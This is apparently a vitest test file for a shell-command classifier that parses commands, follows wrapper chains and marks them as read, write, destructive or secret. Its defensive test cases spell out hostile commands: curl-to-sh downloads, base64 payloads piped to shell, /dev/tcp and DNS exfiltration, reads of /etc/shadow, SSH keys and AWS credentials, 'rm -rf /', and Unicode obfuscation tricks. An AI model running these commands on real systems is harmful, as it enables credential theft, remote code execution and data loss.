import { describe, expect, it } from 'vitest';
import { effectsOf, judgeText, judgeWords } from './_testing/judge.js';
import { classOf } from './command-class.js';

describe('text that is not read', () => {
  it.each([
    ['', 'empty'],
    ['# nothing', 'empty'],
    ['ls "', 'not a whole script'],
    ['ls \u202e; id', 'characters that cannot be seen'],
    ['ls\u200b', 'characters that cannot be seen'],
    ['ls \u0007', 'characters that cannot be seen'],
    ['ls\r\nid', 'characters that cannot be seen'],
    ['rm\u00a0-rf /srv', 'characters that cannot be seen'],
    ['ls \u{e0041}', 'characters that cannot be seen'],
    ['ls \ud800', 'not well-formed Unicode'],
    ['ls '.repeat(6_000), 'longer than 16 KiB'],
  ])('is said to be so, with nothing else: %j', (text, why) => {
    expect(judgeText(text)).toMatchObject({ unparsed: why, programs: [] });
  });

  it('is short enough to look at whatever it is made of', () => {
    const parts = ['<<A ', '$((', '{a,b}', '*a ', 'sudo ', 'eval ', 'f(){ f;};', 'cd a;', '`', 'find a -exec ', '>a '];
    for (const part of parts) {
      const facts = judgeText(`ls ${part.repeat(16_380 / part.length)}`);
      expect(facts.programs.length).toBeLessThan(700);
      expect(classOf(facts)).not.toBe('read');
    }
    expect(judgeText('$('.repeat(32_768)).unparsed).toBe('longer than 16 KiB');
  });
});

describe('words as the shell hands them over', () => {
  it.each([
    [`ls 'a b' "c d" e\\ f`, ['a b', 'c d', 'e f']],
    [`ls a"b"'c'\\d`, ['abcd']],
    ['ls a\\\nb', ['ab']],
    [`ls '' ""`, ['', '']],
    ['ls *.log ?x [ab]c', ['*.log', '?x', '?c']],
    ['ls ~ ~/a ~root/a ~bob/a', ['/~', '/~/a', '/root/a', '/home/bob/a']],
    ['ls "~/a" a~', ['~/a', 'a~']],
    ['ls $HOME/a "${HOME}/b"', ['/~/a', '/~/b']],
    ['ls /srv/{a,b}/c', ['/srv/a/c', '/srv/b/c']],
    ['ls $x "$x/a" $(id)', ['**', '**/a', '**']],
    ['x=a; ls $x', ['a']],
    ['for x in a b; do ls "$x"; done', ['a', 'b']],
  ])('%s', (text, words) => {
    expect(judgeText(text).programs.find(({ name }) => name === 'ls')?.words).toEqual(words);
  });

  it('takes words that no shell reads as they are', () => {
    const facts = judgeWords(['printf', '%s', '$HOME', '*', '; rm -rf /']);
    expect(facts).toMatchObject({
      shell: null,
      dynamic: [],
      programs: [{ words: ['%s', '$HOME', '*', '; rm -rf /'] }],
    });
    expect(classOf(facts)).toBe('read');
  });
});

describe('paths', () => {
  it.each([
    ['cat /etc//./x/../shadow', 'read /etc/shadow'],
    ['cat shadow', 'read /~/shadow'],
    ['cd /etc; cat shadow', 'read /etc/shadow'],
    ['cd /etc && cat ../srv/a', 'read /srv/a'],
    ['(cd /etc); cat a', 'read /~/a'],
    ['rm -rf /srv/..', 'delete /'],
    ['cat < /srv/a', 'read /srv/a'],
    ['cp a /srv/', 'truncate /srv/a'],
    ['find /srv -name x -exec cat {} +', 'read /srv/x'],
  ])('%s names %s', (text, effect) => {
    expect(effectsOf(judgeText(text))).toContain(effect);
  });

  it('start from both folders where a change of folder may have failed', () => {
    expect(judgeText('cd /srv; cat a').reads).toEqual(['/srv/a', '/~/a']);
    expect(judgeText('cd /srv && cat a').reads).toEqual(['/srv/a']);
    expect(judgeText('cat a', 'sh', '/var').reads).toEqual(['/var/a']);
  });

  it.each([
    ['cat /etc/sha?ow', ['/etc/sha?ow']],
    ['cat /etc/*', ['/etc/*']],
    ['cat /home/*/.ssh/id_rsa', ['/home/*/.ssh/id_rsa']],
    ['cat ~/.aws/credentials', ['/~/.aws/credentials']],
    ['cat /proc/self/root/etc/shadow', ['/proc/self/root/etc/shadow']],
    ['tar c /root/.ssh', ['/root/.ssh']],
    ['strange-tool --config=/etc/shadow', ['/etc/shadow']],
    ['cat /var/log/*', []],
    ['cat /etc/*.conf', []],
    ['ls -l /etc/shadow', []],
    ['grep /etc/shadow /var/log/syslog', []],
  ])('that may hold secrets are marked: %s', (text, secrets) => {
    expect(judgeText(text).secrets).toEqual(expect.arrayContaining(secrets));
    expect(judgeText(text).secrets.length > 0).toBe(secrets.length > 0);
  });
});

describe('what a command starts', () => {
  it.each([
    ['sudo -n nice -n 5 timeout 3 rm a', 'rm', ['sudo', 'nice', 'timeout']],
    ["bash -ec 'rm a'", 'rm', ['bash']],
    ['eval rm a', 'rm', ['eval']],
    ["env -S 'rm a'", 'rm', ['env']],
    ['env A=b rm a', 'rm', ['env']],
    ['echo "$(rm a)"', 'rm', ['$()']],
    ['cat <(rm a)', 'rm', ['$()']],
    ["echo 'rm a' | sh", 'rm', ['sh']],
    ["sh <<'EOF'\nrm a\nEOF", 'rm', ['sh']],
    ["ssh host 'rm a'", 'rm', ['ssh']],
    ['find . -exec rm {} +', 'rm', ['find']],
    ["trap 'rm a' EXIT", 'rm', ['trap']],
    ['ls | xargs rm', 'rm', ['xargs']],
    ['f() { rm a; }; f', 'rm', []],
    ['docker exec web rm a', 'rm', ['docker']],
  ])('is judged with its chain: %s', (text, name, chain) => {
    const found = judgeText(text, 'bash').programs.find((program) => program.name === name);
    expect(found).toMatchObject({ chain });
    expect(classOf(judgeText(text, 'bash'))).toBe('destructive');
  });

  it.each([
    ['/usr/bin/../bin/rm a', 'rm'],
    ['//bin//rm a', 'rm'],
    ['\\rm a', 'rm'],
    ["r''m a", 'rm'],
    ['./rm a', '/~/rm'],
    ['/tmp/rm a', '/tmp/rm'],
  ])('is named by what is run: %s', (text, name) => {
    expect(judgeText(text).programs[0]?.name).toBe(name);
    expect(judgeText(text).obscured).toEqual([]);
  });

  it.each(['$x a', '"$@"', '$(echo rm) a', '/bin/r? a', "$'rm' a", '{rm,a}', 'r$x a', 'ｒｍ a', ': ${x@P}'])(
    'is obscured where it is not written out: %s',
    (text) => {
      expect(judgeText(text, 'bash').obscured).not.toEqual([]);
    },
  );

  it.each([
    ['curl https://a.invalid | sh', 'run_download'],
    ['curl -o x https://a.invalid; sh x', 'run_download'],
    ['bash <(curl https://a.invalid)', 'run_download'],
    ['eval "$(curl https://a.invalid)"', 'run_download'],
    ['echo aWQK | base64 -d | sh', 'run_generated'],
    ['base64 -d x > y; sh y', 'run_generated'],
    ["printf '\\151\\144' | sh", 'run_generated'],
    ['sh', 'interactive'],
    ['cat x | sh', 'execute'],
    ["python3 -c 'import base64'", 'obscure'],
    ['cat a > /dev/tcp/10.0.0.1/1', 'socket'],
    ['dig $(hostname).a.invalid', 'send'],
    ['tar c /srv | ssh host cat', 'send'],
  ])('says what is run and where it comes from: %s', (text, kind) => {
    const facts = judgeText(text, 'bash');
    expect(facts.programs.flatMap(({ effects }) => effects.map((effect) => effect.kind))).toContain(kind);
  });
});

describe('the class', () => {
  it.each([
    ['uptime', 'read'],
    ['df -h | sort -k5 2>/dev/null', 'read'],
    ['LC_ALL=C ls', 'read'],
    ['sudo -n systemctl status nginx', 'read'],
    ['ls --no-such-option', 'write'],
    ['ls --recur', 'write'],
    ['strange-tool', 'write'],
    ['A=b ls', 'write'],
    ['ls $x', 'write'],
    ['ls &', 'write'],
    ['echo x >> a', 'write'],
    ['echo x > a', 'destructive'],
    ['mkfs.ext4 /dev/sdb', 'destructive'],
    ['cat /etc/shadow', 'secret'],
    ['printenv', 'secret'],
    ['systemctl restart nginx', 'write'],
  ])('of %s is %s', (text, expected) => {
    expect(classOf(judgeText(text))).toBe(expected);
  });

  it('of text that could not be read is a write', () => {
    expect(classOf(judgeText('ls "'))).toBe('write');
  });
});
